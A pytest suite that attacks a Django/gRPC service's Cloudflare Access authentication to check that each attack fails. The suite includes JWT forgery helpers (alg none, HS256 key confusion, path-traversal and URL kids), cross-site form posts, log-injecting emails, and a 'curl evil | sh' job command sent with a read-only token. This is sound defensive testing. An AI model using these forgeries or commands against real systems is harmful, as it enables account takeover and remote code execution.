"""The attack suite: every way the authentication was or could be broken, replayed against it.

One module shows the whole suite; each section names the rule of docs/decisions.md it checks.
It runs offline against the real code: the `cloudflare` fixture (accounts.tests.cloudflare)
serves a Cloudflare-shaped certs endpoint on loopback and signs tokens as Access would; HTTP goes
through Django's test client or a live server, gRPC to an in-process server on loopback
(falcon_site.grpc.testing). HTTP and gRPC are both attacked where both apply.

The list: forged tokens (alg none, HS256 keyed with the public key, unknown and hostile kids,
wrong aud and iss, malformed and oversized, missing email/sub/exp); expiry against the 30 s
leeway; a read-only service token calling the controllers' writes; certs answering without keys
or not at all; `?port=²²²²`; an admin session carried from the local mode into the cloudflare
mode; a cross-site form POST riding the CF_Authorization cookie; the local mode reached from
elsewhere; an email with a newline; one address in two cases; the CLI login leaking its token
(by a link, a cross-site form, a replayed or guessed grant, or a URL).
"""
from __future__ import annotations

import base64
import hashlib
import hmac
import json
import logging
import math
import time

import grpc
import jwt
import pytest
from django.core.signals import setting_changed
from django.utils import timezone

from accounts.models import User
from core.grpc.channel import auth_metadata
from falcon_proto.falcon.v1 import common_pb2, experiment_pb2_grpc
from falcon_site.grpc.testing import grpc_channel, grpc_server  # noqa: F401 (fixtures)

from .cloudflare import OTHER_AUD, signing_key

pytestmark = pytest.mark.django_db(transaction=True)
WHOAMI = "/api/v1/auth/whoami"


def whoami(api, token):
    return api.get(WHOAMI, HTTP_CF_ACCESS_JWT_ASSERTION=token)


def grpc_list(channel, token) -> tuple[grpc.StatusCode, str]:
    """Call ListExps with `token`; return the status code and details (OK, '' on success)."""
    stub = experiment_pb2_grpc.ExperimentServiceStub(channel)
    try:
        stub.ListExps(common_pb2.CommonListReq(), metadata=auth_metadata(token), timeout=10)
    except grpc.RpcError as err:
        return err.code(), err.details() or ""
    return grpc.StatusCode.OK, ""


def cold_cache() -> None:
    """Rebuild the verifier (as a restarted process): no key set fetched yet."""
    setting_changed.send(sender=None, setting="FALCON_AUTH_MODE", value="cloudflare",
                         enter=True)


# -- forged, malformed and incomplete tokens: 401 / UNAUTHENTICATED, nobody registered -----------
# RFC 8725 (JWT best current practices) 3.1-3.2: the algorithm is fixed (RS256), never read from
# the token; `kid` is looked up, never used as a path or URL; RFC 7519 4.1: the claims Falcon
# requires (`exp`, `iat`, `iss`, `aud`; Cloudflare "Validate JWTs": `aud` is the application's
# AUD tag, `iss` the team domain); decisions.md#auth-2 for `sub` and `email`.

def _hs256_with_public_key(cf) -> str:
    """The classic key-confusion forgery: HS256 keyed with the RSA public key's PEM."""
    def b64(raw: bytes) -> str:
        return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()

    signing_input = (f"{b64(json.dumps({'alg': 'HS256', 'kid': cf.current.kid}).encode())}."
                     f"{b64(json.dumps(cf.claims()).encode())}")
    sig = hmac.new(cf.current.public_pem, signing_input.encode(), hashlib.sha256).digest()
    return f"{signing_input}.{b64(sig)}"


def _unsigned(cf) -> str:
    return jwt.encode(cf.claims(), None, algorithm="none", headers={"kid": cf.current.kid})


def _with_kid(kid):
    """A token validly signed by the current key with `kid` as its header's `kid`.

    Assembled here (RFC 7515 compact serialization) because PyJWT refuses to encode a `kid`
    that is not a string; the signature is PyJWT's RS256.
    """
    def make(cf) -> str:
        def b64(raw: bytes) -> str:
            return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()

        signing_input = (f"{b64(json.dumps({'alg': 'RS256', 'typ': 'JWT', 'kid': kid}).encode())}"
                         f".{b64(json.dumps(cf.claims()).encode())}")
        rs256 = jwt.algorithms.RSAAlgorithm(jwt.algorithms.RSAAlgorithm.SHA256)
        return f"{signing_input}.{b64(rs256.sign(signing_input.encode(), cf.current.private))}"
    return make


FORGED = [
    ("alg none", _unsigned, "algorithm"),
    ("HS256 keyed with the public key", _hs256_with_public_key, "algorithm"),
    ("RS512", lambda cf: cf.sign(alg="RS512"), "algorithm"),
    ("signed by another key under our kid",
     lambda cf: cf.sign(key=signing_key("attacker"), kid=cf.current.kid), "signature"),
    ("unknown kid", lambda cf: cf.sign(key=signing_key("attacker")), "kid"),
    ("kid path traversal", _with_kid("../../etc/passwd"), "kid"),
    ("kid a URL", _with_kid("https://evil.example/certs"), "kid"),
    ("kid huge", _with_kid("k" * 10_000), "kid"),
    # RFC 7515 4.1.4: `kid` is a string; PyJWT refuses the header itself.
    ("kid a number", _with_kid(12345), "well-formed"),
    ("kid a list", _with_kid(["a", "b"]), "well-formed"),
    ("kid null", _with_kid(None), "well-formed"),
    ("wrong aud", lambda cf: cf.sign(aud=[OTHER_AUD]), "audience"),
    ("wrong aud string", lambda cf: cf.sign(aud=OTHER_AUD), "audience"),
    ("wrong iss", lambda cf: cf.sign(iss="https://evil.cloudflareaccess.com"), "issuer"),
    ("missing aud", lambda cf: cf.sign(aud=None), "aud"),
    ("missing iss", lambda cf: cf.sign(iss=None), "iss"),
    ("missing exp", lambda cf: cf.sign(exp=None), "'exp'"),
    ("missing iat", lambda cf: cf.sign(iat=None), "'iat'"),
    ("missing email", lambda cf: cf.sign(email=None), "identity"),
    ("missing sub", lambda cf: cf.sign(sub=None), "identity"),
    ("empty sub without common_name", lambda cf: cf.sign(sub=""), "identity"),
    ("not yet valid", lambda cf: cf.sign(nbf=int(time.time()) + 600), "not valid yet"),
    ("malformed", lambda cf: "eyJhbGciOi.not-base64!.x", "well-formed"),
    ("two segments", lambda cf: "abc.def", "well-formed"),
    ("oversized garbage", lambda cf: "a" * 100_000, "longer"),
    ("oversized JWT", lambda cf: cf.sign(pad="x" * 100_000), "longer"),
]
FORGED_IDS = [name for name, _make, _reason in FORGED]


@pytest.mark.parametrize("name,make,reason", FORGED, ids=FORGED_IDS)
def test_a_forged_or_malformed_token_is_401_over_http(api, cloudflare, name, make, reason):
    res = whoami(api, make(cloudflare))
    assert res.status_code == 401, res.content
    body = res.json()
    assert reason in body["detail"] and "\n" not in body["detail"]
    assert res["WWW-Authenticate"].startswith("Bearer")
    assert not User.objects.exists()


@pytest.mark.parametrize("name,make,reason", FORGED, ids=FORGED_IDS)
def test_a_forged_or_malformed_token_is_unauthenticated_over_grpc(cloudflare, grpc_channel, name,
                                                                  make, reason):
    code, details = grpc_list(grpc_channel, make(cloudflare))
    if name.startswith("oversized") or name == "kid huge":
        # gRPC refuses metadata over its limit (8 KiB by default) before Falcon sees it.
        assert code in (grpc.StatusCode.UNAUTHENTICATED, grpc.StatusCode.RESOURCE_EXHAUSTED,
                        grpc.StatusCode.INTERNAL), (code, details)
    else:
        assert code is grpc.StatusCode.UNAUTHENTICATED, (code, details)
        assert reason in details
    assert not User.objects.exists()


# -- expiry: RFC 7519 4.1.4 allows "some small leeway"; Falcon's is 30 s (FALCON_AUTH_LEEWAY_SECONDS)

def _expired(cf, seconds: int) -> str:
    """A token whose `exp` lies at least (29 s: at most) `seconds` in the past."""
    now = time.time()
    exp = (math.ceil(now) if seconds < 30 else math.floor(now)) - seconds
    return cf.sign(exp=exp, iat=exp - 3600, nbf=exp - 3600)


def test_expiry_within_the_leeway_is_accepted_and_beyond_it_refused(api, cloudflare, settings,
                                                                    grpc_channel):
    assert settings.FALCON_AUTH_LEEWAY_SECONDS == 30  # the default under test
    assert whoami(api, _expired(cloudflare, 29)).status_code == 200
    assert grpc_list(grpc_channel, _expired(cloudflare, 29))[0] is grpc.StatusCode.OK
    res = whoami(api, _expired(cloudflare, 31))
    assert res.status_code == 401 and "expired" in res.json()["detail"]
    code, details = grpc_list(grpc_channel, _expired(cloudflare, 31))
    assert code is grpc.StatusCode.UNAUTHENTICATED and "expired" in details


# -- AUTH-7: a certs answer without usable keys is an outage, not a lock-out -----------------------

@pytest.mark.usefixtures("uncached_tokens")
@pytest.mark.parametrize("document", [{"keys": []}, {}, {"keys": [{"kty": "EC", "kid": "x"}]},
                                      {"keys": "nope"}])
def test_certs_without_usable_keys_keep_the_last_good_keys_and_the_cooldown(
        api, cloudflare, settings, caplog, document):
    settings.FALCON_AUTH_JWKS_LIFESPAN_SECONDS = 0.2
    settings.FALCON_AUTH_JWKS_STALE_SECONDS = 60
    settings.FALCON_AUTH_JWKS_RETRY_SECONDS = 60
    assert whoami(api, cloudflare.sign()).status_code == 200
    cloudflare.certs.document = document
    cloudflare.clock.advance(0.3)  # past the lifespan: the next request fetches
    with caplog.at_level(logging.WARNING):
        for _ in range(5):
            assert whoami(api, cloudflare.sign()).status_code == 200
    assert cloudflare.certs.hits == 2  # one fetch of the bad answer, then the back-off holds
    warnings = [r for r in caplog.records if r.levelno >= logging.WARNING
                and r.name.startswith("accounts")]
    assert len(warnings) == 1, [r.getMessage() for r in warnings]


@pytest.mark.parametrize("document", [{"keys": []}, {}])
def test_certs_without_usable_keys_and_no_last_good_set_answer_503_with_retry_after(
        api, cloudflare, settings, document):
    settings.FALCON_AUTH_JWKS_RETRY_SECONDS = 30
    cloudflare.certs.document = document
    for _ in range(3):
        res = whoami(api, cloudflare.sign())
        assert res.status_code == 503, res.content
        assert res.json()["code"] == "unavailable"
        assert 1 <= int(res["Retry-After"]) <= 30
        assert "WWW-Authenticate" not in res  # not a login problem
    assert cloudflare.certs.hits == 1


def test_a_certs_outage_is_503_with_retry_after_and_grpc_unavailable_never_401(
        api, cloudflare, grpc_channel):
    cloudflare.certs.status = 503
    res = whoami(api, cloudflare.sign())
    assert res.status_code == 503 and res.json()["code"] == "unavailable", res.content
    assert int(res["Retry-After"]) >= 1 and "WWW-Authenticate" not in res
    code, _details = grpc_list(grpc_channel, cloudflare.sign())
    assert code is grpc.StatusCode.UNAVAILABLE


def test_a_certs_outage_on_the_admin_is_503_and_keeps_the_session(client, cloudflare):
    cloudflare.certs.status = 503
    res = client.get("/admin/", HTTP_CF_ACCESS_JWT_ASSERTION=cloudflare.sign())
    assert res.status_code == 503 and int(res["Retry-After"]) >= 1


def test_cli_login_during_a_certs_outage_is_503(client, cloudflare):
    cloudflare.certs.status = 503
    res = client.get("/auth/cli-login", {**cli_login_params(), "port": "4000"},
                     HTTP_CF_ACCESS_JWT_ASSERTION=cloudflare.sign())
    assert res.status_code == 503 and int(res["Retry-After"]) >= 1


# -- AUTH-8: service roles ---------------------------------------------------------------------

def _all_rpcs() -> list[str]:
    """Every RPC the API server serves, read from the generated descriptors."""
    from falcon_proto.falcon.v1 import analysis_pb2, artifact_pb2, experiment_pb2, job_pb2

    names = []
    for module, service in ((experiment_pb2, "ExperimentService"), (job_pb2, "JobService"),
                            (artifact_pb2, "ArtifactService"),
                            (analysis_pb2, "AnalysisRecordService")):
        for method in module.DESCRIPTOR.services_by_name[service].methods:
            names.append(f"/falcon.v1.{service}/{method.name}")
    return names


READS = {"GetExp", "ListExps", "ListExpStates", "GetJob", "ListJobs", "ListJobStates",
         "GetArtifact", "ListArtifacts",
         "GetAnalysisRecord", "ListAnalysisRecords"}
ANALYSIS = {"ListExpsAwaitingAnalysis", "CreateAnalysisRecord", "GetAnalysisRecord",
            "ListAnalysisRecords", "UpdateAnalysisRecord", "DeleteAnalysisRecord",
            "ListRunningAnalyses"}
# What each role may call, written out (not derived from accounts.grpc_auth).
EXPECTED = {
    "exp-controller": READS | {"UpdateExpStatus", "UpdateExpStatuses", "UpdateJobStatus",
                               "UpdateArtifactStatus"},
    "resource-manager": READS | {"UpdateJobStatus", "UpdateJobStatuses"},
    "analyzer": READS | ANALYSIS,
    "maintenance": READS | {"CreateJob", "DeleteJob", "CreateArtifact", "DeleteArtifact"},
    "read-only": READS,
    "user": READS | {"CreateExp", "AbortExp", "DeleteExp"},
}
MATRIX = [(role, rpc) for role in EXPECTED for rpc in _all_rpcs()]


@pytest.mark.parametrize("role,rpc", MATRIX, ids=[f"{r}:{m.rsplit('/', 1)[1]}"
                                                  for r, m in MATRIX])
def test_each_role_calls_exactly_its_rpcs(role, rpc):
    from accounts.grpc_auth import Principal, authorize
    from accounts.principals import ServiceIdentity
    from core.errors import PermissionDenied

    if role == "user":
        principal = Principal(kind="user", user=object())
    else:
        principal = Principal(kind="service",
                              service=ServiceIdentity(name="x.access", roles=frozenset({role})))
    allowed = rpc.rsplit("/", 1)[1] in EXPECTED[role]
    if allowed:
        authorize(principal, rpc)
    else:
        with pytest.raises(PermissionDenied):
            authorize(principal, rpc)


def test_the_internal_token_has_every_controller_role():
    from accounts.grpc_auth import ROLE_METHODS, SERVICE, authorize

    assert SERVICE.service.roles >= {"exp-controller", "resource-manager", "analyzer"}
    for rpc in set().union(*ROLE_METHODS.values()):
        authorize(SERVICE, rpc)


@pytest.fixture
def victim_exp():
    from experiments.tests.factories import make_exp
    from accounts.tests.factories import UserFactory

    return make_exp(creator=UserFactory(email="victim@example.com"))


def test_a_read_only_service_token_cannot_write_jobs_experiments_or_analysis_records(
        cloudflare, settings, grpc_channel, victim_exp):
    from google.protobuf import field_mask_pb2

    from analysis.models import AnalysisRecord
    from analysis.tests.factories import make_analysis
    from falcon_proto.falcon.v1 import (analysis_pb2, analysis_pb2_grpc, experiment_pb2,
                                        job_pb2, job_pb2_grpc)

    victim_record = make_analysis()

    settings.FALCON_CF_SERVICE_TOKENS = ["reader.access"]
    md = auth_metadata(cloudflare.sign(cloudflare.service_claims("reader.access")))
    jobs = job_pb2_grpc.JobServiceStub(grpc_channel)
    exps = experiment_pb2_grpc.ExperimentServiceStub(grpc_channel)
    attacks = [
        (jobs.CreateJob, job_pb2.CreateJobReq(exp_id=victim_exp.pk, role="evil",
                                              task_spec_json='{"command": "curl evil | sh"}')),
        (exps.UpdateExpStatus, experiment_pb2.UpdateExpStatusReq(id=victim_exp.pk,
                                                                 status="Aborting")),
        (exps.AbortExp, experiment_pb2.AbortExpReq(id=victim_exp.pk)),
        (exps.DeleteExp, experiment_pb2.DeleteExpReq(id=victim_exp.pk)),
    ]
    records = analysis_pb2_grpc.AnalysisRecordServiceStub(grpc_channel)
    attacks += [
        (records.CreateAnalysisRecord, analysis_pb2.CreateAnalysisRecordReq(
            exp_id=victim_exp.pk, analysis_type="offline", plugin_name="summary",
            creator_email="victim@example.com", result_root="file:///tmp/evil")),
        (records.UpdateAnalysisRecord, analysis_pb2.UpdateAnalysisRecordReq(
            analysis_id=victim_record.pk, record=analysis_pb2.AnalysisRecord(status="Failed"),
            update_mask=field_mask_pb2.FieldMask(paths=["status"]))),
        (records.DeleteAnalysisRecord,
         analysis_pb2.DeleteAnalysisRecordReq(analysis_id=victim_record.pk)),
    ]
    for method, request in attacks:
        with pytest.raises(grpc.RpcError) as err:
            method(request, metadata=md, timeout=10)
        assert err.value.code() is grpc.StatusCode.PERMISSION_DENIED, method
    victim_exp.refresh_from_db()
    assert victim_exp.status == "Created" and victim_exp.jobs.count() == 1
    assert list(AnalysisRecord.objects.values_list("pk", "status")) == [
        (victim_record.pk, victim_record.status)]
    # Reading stays allowed.
    exps.GetExp(experiment_pb2.GetExpReq(id=victim_exp.pk), metadata=md, timeout=10)
    records.GetAnalysisRecord(analysis_pb2.GetAnalysisRecordReq(analysis_id=victim_record.pk),
                              metadata=md, timeout=10)


@pytest.mark.parametrize("role", [None, "exp-controller"])
def test_a_service_token_only_reads_over_http(api, cloudflare, settings, victim_exp, role):
    if role:
        settings.FALCON_SERVICE_ROLES = {"ctl.access": role}
    else:
        settings.FALCON_CF_SERVICE_TOKENS = ["ctl.access"]
    token = cloudflare.sign(cloudflare.service_claims("ctl.access"))
    for method, url in (("post", f"/api/v1/exps/{victim_exp.pk}/abort"),
                        ("delete", f"/api/v1/exps/{victim_exp.pk}"),
                        ("post", "/api/v1/exps"), ("post", "/api/v1/analyses")):
        res = getattr(api, method)(url, {}, format="json", HTTP_CF_ACCESS_JWT_ASSERTION=token)
        assert res.status_code == 403, (method, url, res.content)
    victim_exp.refresh_from_db()
    assert victim_exp.status == "Created"
    assert api.get(f"/api/v1/exps/{victim_exp.pk}",
                   HTTP_CF_ACCESS_JWT_ASSERTION=token).status_code == 200


def test_a_row_role_wins_and_the_admin_shows_the_effective_role(cloudflare, settings, client):
    from accounts.models import ServicePrincipal, User
    from accounts.selectors import service_role

    settings.FALCON_SERVICE_ROLES = {"a.access": "exp-controller", "b.access": "analyzer"}
    ServicePrincipal.objects.create(common_name="a.access", role="read-only")
    ServicePrincipal.objects.create(common_name="b.access")
    assert service_role(common_name="a.access") == "read-only"
    assert service_role(common_name="b.access") == "analyzer"
    assert service_role(common_name="c.access") == "read-only"
    User.objects.create_superuser("root@example.com", user_id="cf-root")
    res = client.get("/admin/accounts/serviceprincipal/",
                     HTTP_CF_ACCESS_JWT_ASSERTION=cloudflare.sign(email="root@example.com",
                                                                  sub="cf-root"))
    assert res.status_code == 200
    body = res.content.decode()
    assert "analyzer" in body and "FALCON_SERVICE_ROLES" in body


@pytest.mark.parametrize("raw", ["a.access", "a.access=root", "=exp-controller",
                                 "a=exp-controller,a=analyzer"])
def test_a_bad_service_roles_setting_stops_the_server_naming_it(raw):
    from django.core.exceptions import ImproperlyConfigured

    from falcon_site.settings.auth import _service_roles

    with pytest.raises(ImproperlyConfigured, match="FALCON_SERVICE_ROLES"):
        _service_roles(raw)


# -- AUTH-9: the Access cookie does not authenticate cross-site writes --------------------------

@pytest.fixture
def own_exp(cloudflare):
    from accounts.services import user_register
    from experiments.tests.factories import make_exp

    return make_exp(creator=user_register(user_id="cf-sub-bob", email="bob@example.com"))


def test_a_cross_site_form_post_with_the_cookie_cannot_abort(cloudflare, own_exp):
    from django.test import Client

    browser = Client(enforce_csrf_checks=True)
    browser.cookies["CF_Authorization"] = cloudflare.sign()
    for headers in ({"HTTP_ORIGIN": "https://evil.example"},
                    {"HTTP_REFERER": "https://evil.example/page"}, {}):
        res = browser.post(f"/api/v1/exps/{own_exp.pk}/abort", {"x": "1"}, **headers)
        assert res.status_code == 403, res.content
        assert "CSRF" in res.json()["detail"]
    own_exp.refresh_from_db()
    assert own_exp.status == "Created"


def test_a_same_site_post_with_the_cookie_may_abort(cloudflare, own_exp):
    from django.test import Client

    browser = Client(enforce_csrf_checks=True)
    browser.cookies["CF_Authorization"] = cloudflare.sign()
    res = browser.post(f"/api/v1/exps/{own_exp.pk}/abort", HTTP_ORIGIN="http://testserver")
    assert res.status_code == 200, res.content


def test_header_authenticated_clients_need_no_csrf(cloudflare, own_exp):
    from django.test import Client

    res = Client(enforce_csrf_checks=True).post(
        f"/api/v1/exps/{own_exp.pk}/abort", HTTP_CF_ACCESS_JWT_ASSERTION=cloudflare.sign(),
        HTTP_ORIGIN="https://evil.example")
    assert res.status_code == 200, res.content


# -- AUTH-10: the local mode stays local -------------------------------------------------------

@pytest.mark.parametrize("addr", ["0.0.0.0:8000", "[::]:8000", "10.1.2.3:8000", "example.com:80",
                                  "0:8000"])
def test_local_mode_refuses_a_non_loopback_bind_without_the_opt_in(addr):
    from core.processes.ports import local_bind_problem

    refusal, warning = local_bind_problem(addr, mode="local", opt_in=False)
    assert refusal and "FALCON_LOCAL_ALLOW_NONLOOPBACK" in refusal and warning is None
    refusal, warning = local_bind_problem(addr, mode="local", opt_in=True)
    assert refusal is None and "WARNING" in warning
    assert local_bind_problem(addr, mode="cloudflare", opt_in=False) == (None, None)


@pytest.mark.parametrize("addr", ["127.0.0.1:8000", "[::1]:8000", "localhost:8000",
                                  "127.0.0.2:9"])
def test_local_mode_binds_loopback(addr):
    from core.processes.ports import local_bind_problem

    assert local_bind_problem(addr, mode="local", opt_in=False) == (None, None)


def _run(args, env_extra=None):
    import os
    import subprocess
    import sys
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    env = {**os.environ, "FALCON_AUTH_MODE": "local", "PYTHONPATH": str(root),
           **(env_extra or {})}
    env.pop("FALCON_LOCAL_ALLOW_NONLOOPBACK", None) if not env_extra else None
    return subprocess.run(args, cwd=root, env=env, capture_output=True, text=True, timeout=60)


@pytest.mark.parametrize("args", [["manage.py", "runlocal", "--http", "0.0.0.0:18000",
                                   "--grpc", "127.0.0.1:18051"],
                                  ["manage.py", "rungrpc", "--addr", "0.0.0.0:18051"],
                                  ["manage.py", "runcontroller", "analyzer",
                                   "--no-leader-election", "--addr", "0.0.0.0:18052"]])
def test_runlocal_and_rungrpc_refuse_a_non_loopback_bind(args):
    import sys

    result = _run([sys.executable, *args])
    assert result.returncode != 0
    assert "refusing to listen on 0.0.0.0" in result.stderr


def test_gunicorn_refuses_a_non_loopback_bind_in_local_mode():
    import shutil
    import sys
    from pathlib import Path

    gunicorn = Path(sys.executable).parent / "gunicorn"
    if not gunicorn.exists() and not shutil.which("gunicorn"):
        pytest.skip("gunicorn is not installed in this environment")
    result = _run([str(gunicorn), "falcon_site.wsgi", "--bind", "0.0.0.0:18002"])
    assert result.returncode != 0
    assert "refusing to listen on 0.0.0.0" in result.stderr


def test_a_forged_host_header_from_a_remote_peer_is_refused_in_local_mode(client):
    res = client.post("/api/v1/auth/token", {"email": "root@example.com"},
                      content_type="application/json", HTTP_HOST="localhost",
                      REMOTE_ADDR="203.0.113.9")
    assert res.status_code == 403
    res = client.post("/api/v1/auth/token", {"email": "root@example.com"},
                      content_type="application/json", HTTP_HOST="localhost",
                      REMOTE_ADDR="127.0.0.1")
    assert res.status_code == 201


def test_the_opt_in_serves_remote_peers(client, settings):
    settings.FALCON_LOCAL_ALLOW_NONLOOPBACK = True
    res = client.get("/api/v1/auth/config", REMOTE_ADDR="203.0.113.9")
    assert res.status_code == 200


# -- AUTH-11: admin sessions are bound to the mode and identity that made them ------------------

def test_a_local_password_session_does_not_open_the_admin_in_cloudflare_mode(settings, client):
    from accounts.models import User

    User.objects.create_superuser("root@example.com", password="pw-123456789")
    settings.FALCON_AUTH_MODE = "local"
    assert client.login(username="root@example.com", password="pw-123456789")
    assert client.get("/admin/").status_code == 200
    settings.FALCON_AUTH_MODE = "cloudflare"
    settings.FALCON_CF_TEAM_DOMAIN = "https://acme.cloudflareaccess.com"
    settings.FALCON_CF_AUDIENCES = ["aud"]
    res = client.get("/admin/")
    assert res.status_code == 302 and "/login/" in res["Location"]


def test_an_access_session_needs_the_matching_header_on_every_request(cloudflare, client):
    from accounts.models import User

    User.objects.create_superuser("bob@example.com", user_id="cf-sub-bob")
    assert client.get("/admin/", HTTP_CF_ACCESS_JWT_ASSERTION=cloudflare.sign()).status_code \
        == 200
    assert client.get("/admin/").status_code == 302  # no header: the session ends
    User.objects.create_superuser("eve@example.com", user_id="cf-sub-eve")
    client.get("/admin/", HTTP_CF_ACCESS_JWT_ASSERTION=cloudflare.sign())
    res = client.get("/admin/", HTTP_CF_ACCESS_JWT_ASSERTION=cloudflare.sign(
        email="eve@example.com", sub="cf-sub-eve"))
    assert res.status_code == 200 and res.wsgi_request.user.email == "eve@example.com"


# -- AUTH-5: numbers read from a request are ASCII decimal ------------------------------------------

@pytest.mark.parametrize("port", ["²²²²", "١٠٢٤", "+2000", " 2000", "2000 ", "1_024",
                                  "9" * 30, "-1", "1023", "65536"])
def test_cli_login_port_is_ascii_decimal_in_range(cloudflare, port, client):
    """`str.isdigit()` accepts '²²²²' and `int()` accepts '١٠٢٤': both must be a 400, not a port.

    Every other numeric parameter is walked in tests/test_request_numbers.py.
    """
    res = client.get("/auth/cli-login", {**cli_login_params(), "port": port},
                     HTTP_CF_ACCESS_JWT_ASSERTION=cloudflare.sign())
    assert res.status_code == 400, res.content
    assert b"port must be an integer" in res.content and "Location" not in res


# -- AUTH-6: emails (RFC 5321 4.5.3.1.3: at most 254 characters; no control characters) -----------

def test_a_newline_in_a_token_email_is_refused_and_never_echoed_raw(cloudflare, api, caplog):
    caplog.set_level(logging.DEBUG)
    forged = "bob@example.com\n2026-01-01 00:00:00 INFO accounts admin login ok"
    res = api.get(WHOAMI, HTTP_CF_ACCESS_JWT_ASSERTION=cloudflare.sign(email=forged))
    assert res.status_code == 401
    assert forged not in res.content.decode() and "\n" not in res.json()["detail"]
    assert not User.objects.exists()
    for record in caplog.records:
        assert forged not in record.getMessage() and "\n" not in record.getMessage()


def test_an_address_in_two_cases_is_one_user(cloudflare, api):
    first = whoami(api, cloudflare.sign(email="Bob@Example.com", sub="sub-1"))
    assert first.status_code == 200 and first.json()["email"] == "bob@example.com"
    # Another `sub` cannot take the address by changing its case.
    assert whoami(api, cloudflare.sign(email="bob@example.com", sub="sub-2")).status_code == 401
    assert whoami(api, cloudflare.sign(email="BOB@example.com", sub="sub-1")).status_code == 200
    assert list(User.objects.values_list("pk", "email")) == [("sub-1", "bob@example.com")]


# -- AUTH-12: the CLI login hands its token only to the CLI that asked, never in a URL -------------
# RFC 8252 (native apps: loopback redirect, `state`), RFC 7636 (PKCE S256), Django's CSRF
# protection for the confirmation. The real CLI against a live server: the last test here, and
# cli/tests/test_cloudflare_login.py.

def cli_login_params(verifier: str = "v" * 43, **overrides) -> dict[str, str]:
    from accounts.cli_login import s256

    params = {"port": "54321", "state": "s" * 43, "challenge": s256(verifier),
              "code": "BCDF-GHJK"}
    params.update(overrides)
    return params


def confirm(browser, token: str, params: dict[str, str]):
    """What a user's browser does: load the page through Access, press Confirm (same origin)."""
    page = browser.get("/auth/cli-login", params, HTTP_CF_ACCESS_JWT_ASSERTION=token)
    assert page.status_code == 200, page.content
    return browser.post("/auth/cli-login", {**params, "csrfmiddlewaretoken":
                                            page.cookies["csrftoken"].value},
                        HTTP_CF_ACCESS_JWT_ASSERTION=token, HTTP_ORIGIN="http://testserver")


def grant_of(response) -> str:
    from urllib.parse import parse_qs, urlsplit

    assert response.status_code == 303, response.content
    return parse_qs(urlsplit(response["Location"]).query)["grant"][0]


def redeem(client, grant: str, verifier: str = "v" * 43, state: str = "s" * 43):
    return client.post("/auth/cli-login/redeem", {"grant": grant, "state": state,
                                                  "verifier": verifier},
                       content_type="application/json")


@pytest.fixture
def browser():
    from django.test import Client

    return Client(enforce_csrf_checks=True)


def test_rfc_7636_s256_vector():
    from accounts.cli_login import s256

    # RFC 7636 Appendix B.
    assert s256("dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk") == \
        "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"


def test_a_cross_site_get_alone_hands_nothing_over(cloudflare, browser):
    from accounts.models import CliLoginGrant

    token = cloudflare.sign()
    # A link on another site: Access adds the header to the top-level navigation.
    res = browser.get("/auth/cli-login", cli_login_params(), HTTP_CF_ACCESS_JWT_ASSERTION=token,
                      HTTP_REFERER="https://evil.example/")
    assert res.status_code == 200 and "Location" not in res
    assert token not in res.content.decode() and b"Confirm" in res.content
    assert res["X-Frame-Options"] == "DENY"  # no clicking Confirm through a hidden frame
    assert not CliLoginGrant.objects.exists()


@pytest.mark.parametrize("headers,with_token", [
    ({"HTTP_ORIGIN": "https://evil.example"}, False),   # a cross-site form
    ({"HTTP_ORIGIN": "https://evil.example"}, True),    # ... even with a page's token
    ({"HTTP_ORIGIN": "http://testserver"}, False),      # same origin, no CSRF token
    ({}, False),                                        # no Origin, no token
], ids=["cross-site", "cross-site with token", "no csrf token", "nothing"])
def test_the_confirm_post_without_csrf_is_refused(cloudflare, browser, headers, with_token):
    from accounts.models import CliLoginGrant

    token = cloudflare.sign()
    form = dict(cli_login_params())
    if with_token:
        page = browser.get("/auth/cli-login", form, HTTP_CF_ACCESS_JWT_ASSERTION=token)
        form["csrfmiddlewaretoken"] = page.cookies["csrftoken"].value
    res = browser.post("/auth/cli-login", form, HTTP_CF_ACCESS_JWT_ASSERTION=token, **headers)
    assert res.status_code == 403 and b"CSRF" in res.content
    assert "Location" not in res and not CliLoginGrant.objects.exists()


def test_redeem_with_a_wrong_verifier_twice_or_after_expiry_hands_nothing(cloudflare, browser,
                                                                         client):
    from accounts.models import CliLoginGrant

    token = cloudflare.sign()
    # A wrong verifier uses the grant up: the right one cannot follow.
    grant = grant_of(confirm(browser, token, cli_login_params()))
    res = redeem(client, grant, verifier="w" * 43)
    assert res.status_code == 400 and "verifier" in res.json()["detail"]
    assert token not in res.content.decode()
    assert redeem(client, grant).status_code == 400
    # A wrong state, likewise.
    grant = grant_of(confirm(browser, token, cli_login_params()))
    res = redeem(client, grant, state="t" * 43)
    assert res.status_code == 400 and "state" in res.json()["detail"]
    # Right: once.
    grant = grant_of(confirm(browser, token, cli_login_params()))
    assert redeem(client, grant).json()["token"] == token
    res = redeem(client, grant)
    assert res.status_code == 400 and "already used" in res.json()["detail"]
    # Late: 120 s after the confirmation.
    grant = grant_of(confirm(browser, token, cli_login_params()))
    CliLoginGrant.objects.update(expires_at=timezone.now())
    res = redeem(client, grant)
    assert res.status_code == 400 and "expired" in res.json()["detail"]
    assert not CliLoginGrant.objects.exists()


def test_a_link_made_by_someone_else_gives_its_author_nothing(cloudflare, browser, client):
    """Mallory makes the login URL (her challenge) and Bob confirms it without comparing codes.

    The grant id goes to Bob's own loopback, not to Mallory: holding the verifier, she still
    cannot name a grant, and every guess is refused.
    """
    import secrets

    from accounts.models import CliLoginGrant

    mallory = secrets.token_urlsafe(32)
    res = confirm(browser, cloudflare.sign(), cli_login_params(mallory))
    assert res["Location"].startswith("http://127.0.0.1:54321/callback?")
    for _ in range(20):
        assert redeem(client, secrets.token_urlsafe(32), verifier=mallory).status_code == 400
    assert CliLoginGrant.objects.count() == 1  # Bob's grant was never named


def test_the_token_is_in_no_url_the_server_emits(cloudflare, browser, client):
    import re

    token = cloudflare.sign()
    params = cli_login_params()
    page = browser.get("/auth/cli-login", params, HTTP_CF_ACCESS_JWT_ASSERTION=token)
    answer = browser.post("/auth/cli-login", {**params, "csrfmiddlewaretoken":
                                              page.cookies["csrftoken"].value},
                          HTTP_CF_ACCESS_JWT_ASSERTION=token, HTTP_ORIGIN="http://testserver")
    redeemed = redeem(client, grant_of(answer))
    assert redeemed.json()["token"] == token  # in the body of the CLI's own POST, only there
    for res in (page, answer):
        body = res.content.decode()
        assert token not in body
